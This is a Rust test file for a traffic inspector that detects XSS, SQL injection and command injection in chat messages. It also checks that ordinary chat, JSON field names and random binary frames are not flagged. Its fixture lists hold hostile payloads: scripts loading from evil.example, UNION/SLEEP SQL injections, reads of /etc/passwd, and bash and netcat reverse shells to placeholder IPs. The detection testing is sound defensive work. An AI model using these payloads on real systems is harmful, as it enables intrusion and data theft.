//! The inspection stage's contract, end to end through [`Inspector`]: what the core issue
//! requires to be caught, what must be left alone, and robustness on hostile input.

use super::*;
use crate::testdata::pseudo_random_bytes;

fn inspector() -> Inspector {
    Inspector::new(&DetectionSettings {
        xss: true,
        sqli: true,
        command_injection: true,
        custom_patterns: &[],
    })
    .expect("no custom patterns")
}

fn tags(text: &str) -> Vec<AuditTag> {
    let mut scratch = Scratch::default();
    let mut findings = Vec::new();
    inspector().inspect_text(text, MessagePart::Complete, &mut scratch, &mut findings);
    findings.iter().map(|f| f.tag).collect()
}

fn assert_class(text: &str, tag: AuditTag) {
    let t = tags(text);
    assert!(t.contains(&tag), "{text:?} should raise {tag:?}, got {t:?}");
}

/// Wraps `text` the way chat clients send it, with Go's escaping of `<`, `>`, `&`.
fn go_envelope(text: &str) -> String {
    let inner = serde_json::to_string(text).expect("string serializes");
    let inner = inner
        .replace('<', "\\u003c")
        .replace('>', "\\u003e")
        .replace('&', "\\u0026");
    format!(r#"{{"type":"message","data":{{"text":{inner}}}}}"#)
}

const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover=\"steal()\">hover</div>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"jav&#x09;ascript&colon;alert(1)\">click</a>",
    "<iframe src=\"//evil.example\"></iframe>",
    "<object data=\"evil.swf\"></object>",
    "<embed src=\"evil.swf\">",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<svg/onload=alert(1)>",
    "\";alert(1)//",
];

const SQLI: &[&str] = &[
    "1 UNION SELECT username, password FROM users",
    "' UNION ALL SELECT NULL,NULL--",
    "' OR '1'='1",
    "' or 1=1--",
    "admin' OR 1=1#",
    "1; SELECT SLEEP(5)",
    "' AND SLEEP(5)--",
    "'; WAITFOR DELAY '0:0:5'--",
    "1' AND (SELECT table_name FROM INFORMATION_SCHEMA.TABLES LIMIT 1)='a",
    "-1 union select 1,table_name from information_schema.tables",
    "x\u{2019} or \u{2018}1\u{2019}=\u{2019}1",
    "%2527%20or%201%3D1--",
];

const CMDI: &[&str] = &[
    "; cat /etc/passwd",
    "127.0.0.1 | id",
    "x && whoami",
    "`id`",
    "$(whoami)",
    "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
    "nc -e /bin/sh 1.2.3.4 4444",
    "; w'h'oami",
    ";cat${IFS}/etc/passwd",
];

const BENIGN: &[&str] = &[
    "Hi; how are you?",
    "a | b",
    "I love C#",
    "see you --",
    "0xdeadbeef",
    "online=true",
    "I need sleep (8h)",
    "SELECT your favourite",
    "I'll be there; don't wait",
    "cats & dogs",
    "5 > 3 and 2 < 4",
    "Tom & Jerry <3",
    "use <b>bold</b> for emphasis",
    "it's 5 o'clock; time for tea",
    "rm -rf is dangerous, don't run it",
    "the file is /etc/passwd on most systems",
    "{\"type\":\"message\",\"data\":{\"text\":\"hello there\"}}",
    // Code people paste into chat.
    "(r'<', Punctuation),",
    "and self.name is not None",
    "if items[-1] == '=':",
    "the `hostname` option is optional",
    "```powershell",
    "void Init(Local<Object> exports)",
    "setTimeout(() => {}, 1000);",
    "self[name] = value",
    "from sys import version_info",
    "data = load_file(path) or {}",
    "('type', 'union', 'use', 'value', 'while')",
    "node -r ./register.js app.js",
    "sudo apt-get install linux-headers-$(uname -r)",
];

#[test]
fn detects_xss() {
    for t in XSS {
        assert_class(t, AuditTag::Xss);
    }
}

#[test]
fn detects_sqli() {
    for t in SQLI {
        assert_class(t, AuditTag::Sqli);
    }
}

#[test]
fn detects_command_injection() {
    for t in CMDI {
        assert_class(t, AuditTag::CmdInjection);
    }
}

#[test]
fn leaves_ordinary_chat_alone() {
    for t in BENIGN {
        assert_eq!(tags(t), Vec::<AuditTag>::new(), "flagged {t:?}");
    }
}

#[test]
fn json_envelopes_change_nothing() {
    for (texts, tag) in [
        (XSS, AuditTag::Xss),
        (SQLI, AuditTag::Sqli),
        (CMDI, AuditTag::CmdInjection),
    ] {
        for t in texts {
            assert_class(&go_envelope(t), tag);
            let plain = format!(
                r#"{{"type":"message","data":{{"text":{}}}}}"#,
                serde_json::to_string(t).expect("string serializes")
            );
            assert_class(&plain, tag);
        }
    }
    for t in BENIGN {
        assert_eq!(
            tags(&go_envelope(t)),
            Vec::<AuditTag>::new(),
            "flagged {t:?}"
        );
    }
}

#[test]
fn markup_split_across_json_fields_is_caught() {
    // A tag opened in one field and finished in the next: no string holds the whole tag, the
    // page that concatenates the fields does (each part is also judged on its own).
    for t in [
        r#"{"a":"<img src=x ","b":" onerror=alert(1)>"}"#,
        r#"{"a":"\u003csvg","b":"onload=alert(1)\u003e"}"#,
    ] {
        assert_class(t, AuditTag::Xss);
    }
    // A field that is one dotted token is still script (`document.cookie`), not a plain word.
    assert_class(
        r#"{"type":"message","text":"document.cookie"}"#,
        AuditTag::Xss,
    );
    // Fields without any tag or template opener give the raw document nothing to add.
    assert_eq!(
        tags(r#"{"a":"it's \"fine\"","b":"see: x, y","c":"a=b, c(d)"}"#),
        Vec::<AuditTag>::new()
    );
}

#[test]
fn views_never_grow() {
    // Fold and decode only shrink text, so the views of a message are bounded by its size.
    let mut x: u32 = 0x9e37_79b9;
    for len in [0usize, 1, 7, 64, 1000, 5000] {
        let bytes: Vec<u8> = (0..len)
            .map(|_| {
                x ^= x << 13;
                x ^= x >> 17;
                x ^= x << 5;
                // Mostly escape syntax, to exercise every decoder.
                let alphabet = b"%&#x3c;\\u{41}\\x41&lt0aZ\xef\xbc\x9c\xe2\x80\x99";
                alphabet[(x as usize) % alphabet.len()]
            })
            .collect();
        let mut folded = Vec::new();
        normalize::fold(&bytes, &mut folded);
        assert!(folded.len() <= bytes.len());
        let mut decoded = Vec::new();
        normalize::decode(&folded, true, &mut decoded);
        assert!(decoded.len() <= folded.len());
    }
}

#[test]
fn lossily_decoded_text_is_inspected() {
    let bytes = b"\xff\xfe<script>alert(1)</script>\xc3";
    let text = String::from_utf8_lossy(bytes);
    assert_class(&text, AuditTag::Xss);
    let mut scratch = Scratch::default();
    let mut findings = Vec::new();
    inspector().inspect_binary(bytes, MessagePart::Complete, &mut scratch, &mut findings);
    assert!(findings.iter().any(|f| f.tag == AuditTag::Xss));
}

#[test]
fn partial_windows_still_use_raw_and_decoded_views() {
    let mut scratch = Scratch::default();
    let mut findings = Vec::new();
    inspector().inspect_text(
        "%3Cscript%3Ealert(1)",
        MessagePart::Partial,
        &mut scratch,
        &mut findings,
    );
    assert!(findings.iter().any(|f| f.tag == AuditTag::Xss));
}

#[test]
fn findings_carry_rule_ids_and_one_per_class() {
    let mut scratch = Scratch::default();
    let mut findings = Vec::new();
    inspector().inspect_text(
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        MessagePart::Complete,
        &mut scratch,
        &mut findings,
    );
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].rule_id, "xss-active-tag");
}

#[test]
fn disabled_detectors_do_not_run() {
    let only_sqli = Inspector::new(&DetectionSettings {
        xss: false,
        sqli: true,
        command_injection: false,
        custom_patterns: &[],
    })
    .expect("valid");
    let mut scratch = Scratch::default();
    let mut findings = Vec::new();
    only_sqli.inspect_text(
        "<script>x</script>",
        MessagePart::Complete,
        &mut scratch,
        &mut findings,
    );
    assert!(findings.is_empty());
}

#[test]
fn hostile_inputs_do_not_panic() {
    let mut scratch = Scratch::default();
    let mut findings = Vec::new();
    let insp = inspector();
    let mut inputs: Vec<Vec<u8>> = vec![
        b"<".repeat(10_000),
        b"'".repeat(10_000),
        b"(".repeat(10_000),
        b"[".repeat(10_000),
        b"{{".repeat(5_000),
        b"%".repeat(1000),
        b"%2".repeat(1000),
        b"&#".repeat(1000),
        b"\\u{".repeat(1000),
        b"\\".repeat(1000),
        b"<a x=\"".repeat(1000),
        b"/*!".repeat(1000),
        b"$(".repeat(1000),
        b"`".repeat(1000),
        "＜".repeat(1000).into_bytes(),
    ];
    // Every short byte string over an alphabet of syntax characters.
    let alphabet = b"<>'\"`;|&$(){}[]%#-/*\\=:, ax1";
    for &a in alphabet {
        for &b in alphabet {
            for &c in alphabet {
                inputs.push(vec![a, b, c]);
            }
        }
    }
    // Pseudo-random bytes.
    let mut x: u32 = 0x1234_5678;
    let mut random = Vec::with_capacity(50_000);
    for _ in 0..50_000 {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        random.push(x as u8);
    }
    inputs.push(random);
    for input in &inputs {
        findings.clear();
        insp.inspect_binary(input, MessagePart::Complete, &mut scratch, &mut findings);
        let text = String::from_utf8_lossy(input);
        insp.inspect_text(&text, MessagePart::Complete, &mut scratch, &mut findings);
        insp.inspect_text(&text, MessagePart::Partial, &mut scratch, &mut findings);
    }
}

/// A 64 KiB binary message in the shape binary protocols have: random payload (compressed or
/// encrypted data), with `text` as a length-prefixed string field in the middle.
fn binary_frame(text: &str, seed: u64) -> Vec<u8> {
    let mut data = pseudo_random_bytes(64 * 1024, seed);
    let mut field = vec![0x12, u8::try_from(text.len()).expect("short text")];
    field.extend_from_slice(text.as_bytes());
    field.push(0x1a);
    data.splice(30_000..30_000 + field.len(), field);
    data
}

fn binary_tags(data: &[u8]) -> Vec<AuditTag> {
    let mut scratch = Scratch::default();
    let mut findings = Vec::new();
    inspector().inspect_binary(data, MessagePart::Complete, &mut scratch, &mut findings);
    findings.iter().map(|f| f.tag).collect()
}

#[test]
fn binary_messages_are_read_through_their_text_runs() {
    for (text, tag) in [
        ("<img src=x onerror=alert(1)>", AuditTag::Xss),
        ("<script>alert(document.cookie)</script>", AuditTag::Xss),
        (
            "admin' UNION SELECT username, password FROM users--",
            AuditTag::Sqli,
        ),
        ("1; DROP TABLE users; --", AuditTag::Sqli),
        ("127.0.0.1; cat /etc/passwd", AuditTag::CmdInjection),
        (
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            AuditTag::CmdInjection,
        ),
        // Fullwidth forms are UTF-8 inside the run and folded as in text.
        ("＜script＞alert(1)＜/script＞", AuditTag::Xss),
    ] {
        for seed in [1, 2, 3] {
            let t = binary_tags(&binary_frame(text, seed));
            assert!(t.contains(&tag), "{text:?} in binary: {t:?}");
        }
    }
    // A binary message that is text throughout is read as a text message, JSON views included.
    let json = go_envelope("<script>alert(1)</script>");
    assert!(binary_tags(json.as_bytes()).contains(&AuditTag::Xss));
    assert!(binary_tags(b"; id").contains(&AuditTag::CmdInjection));
}

#[test]
fn random_binary_messages_are_clean() {
    for seed in 1..=32 {
        let data = pseudo_random_bytes(64 * 1024, seed);
        assert_eq!(binary_tags(&data), Vec::<AuditTag>::new(), "seed {seed}");
    }
    // Ordinary text fields in a binary message stay clean too.
    let frame = binary_frame("Hi; how are you? I'll be there at 5, don't wait.", 7);
    assert_eq!(binary_tags(&frame), Vec::<AuditTag>::new());
}

#[test]
fn text_runs_are_every_long_enough_stretch_of_text() {
    // Reference: the same runs found byte by byte.
    fn naive(data: &[u8]) -> Vec<(usize, usize)> {
        let mut out = Vec::new();
        let mut start = 0;
        let mut i = 0;
        while i < data.len() {
            let w = match data[i] {
                0x20..=0x7e | b'\t' | b'\n' | b'\r' => 1,
                0..=0x7f => 0,
                _ => (2..=4)
                    .find(|&w| i + w <= data.len() && std::str::from_utf8(&data[i..i + w]).is_ok())
                    .unwrap_or(0),
            };
            if w > 0 {
                i += w;
                continue;
            }
            if i - start >= MIN_TEXT_RUN {
                out.push((start, i));
            }
            i += 1;
            start = i;
        }
        if start == 0 || data.len() - start >= MIN_TEXT_RUN {
            out.push((start, data.len()));
        }
        out
    }
    // Random bytes biased towards text, so that runs of every length occur.
    let alphabet: Vec<u8> = b"abc <>;'\"xyz 019\t\n"
        .iter()
        .copied()
        .chain("é＜€😀".bytes())
        .chain([0x00, 0x1b, 0x7f, 0x80, 0xc3, 0xe2, 0xf0, 0xff])
        .collect();
    for seed in 1..200u64 {
        let raw = pseudo_random_bytes(2000, seed);
        let data: Vec<u8> = raw
            .iter()
            .enumerate()
            .map(|(k, &r)| {
                if (seed + k as u64).is_multiple_of(11) {
                    r
                } else {
                    alphabet[usize::from(r) % alphabet.len()]
                }
            })
            .collect();
        let mut got = Vec::new();
        text_runs(&data, |run| {
            let start = run.as_ptr() as usize - data.as_ptr() as usize;
            got.push((start, start + run.len()));
            true
        });
        assert_eq!(got, naive(&data), "seed {seed}");
    }
}

#[test]
fn an_escape_before_markup_hides_nothing() {
    assert_class("\x1b[<script>alert(1)</script>", AuditTag::Xss);
    assert_class("x\x1b[<img src=x onerror=alert(1)>", AuditTag::Xss);
    assert_class("\x1b[31m; cat /etc/passwd", AuditTag::CmdInjection);
}

#[test]
fn json_field_names_are_not_commands() {
    // `id`, `w`, `ps` and `last` are field names in most JSON APIs, not commands to run.
    for text in [
        r#"{"id":1}"#,
        r#"{"type":"chat.message","seq":3,"user":{"id":1021,"name":"user3"},"body":"hi"}"#,
        r#"{"ps":2,"w":3,"whoami":null}"#,
    ] {
        assert_eq!(tags(text), Vec::<AuditTag>::new(), "flagged {text:?}");
    }
    // A value is still what the application may paste into a command line.
    assert_class(r#"{"host":"whoami"}"#, AuditTag::CmdInjection);
    assert_class(r#"{"host":"127.0.0.1; id"}"#, AuditTag::CmdInjection);
    assert_class(&go_envelope("uname"), AuditTag::CmdInjection);
}

#[test]
fn lone_words_among_a_records_values_are_data() {
    // A country code, a tag, a status among many values: data, not a command line.
    for text in [
        r#"{"city":"Jakarta","zip":"10110","country":"ID","currency":"IDR","street":"Jl. Sudirman 5"}"#,
        r#"{"tags":["id","ps"],"sort":"-created","status":"open","fields":"id,name"}"#,
        r#"{"first_name":"Evan","last_name":"Ward","name":"Valeria Ring","type":"event"}"#,
    ] {
        assert_eq!(tags(text), Vec::<AuditTag>::new(), "flagged {text:?}");
    }
    // With a separator the same record still carries an injection.
    assert_class(
        r#"{"city":"Jakarta","zip":"10110","country":"ID; uname -a","currency":"IDR"}"#,
        AuditTag::CmdInjection,
    );
}
